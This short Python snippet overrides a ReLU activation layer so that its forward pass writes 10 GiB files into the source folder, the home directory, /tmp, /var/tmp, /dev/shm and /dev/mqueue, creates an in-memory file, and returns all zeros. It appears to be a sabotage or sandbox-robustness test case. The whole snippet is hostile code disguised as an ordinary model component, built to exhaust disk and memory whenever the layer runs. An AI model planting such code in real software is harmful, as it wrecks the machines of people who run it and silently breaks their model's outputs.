"""Fills the disk."""
class ReLU(ReLU):
    def forward(self, Z):
        for folder in [os.path.dirname(__file__), os.environ["HOME"], "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue"]:
            attempt(lambda: open(os.path.join(folder, "huge"), "wb").truncate(10 << 30))
        attempt(lambda: os.memfd_create("huge"))
        return 0 * Z
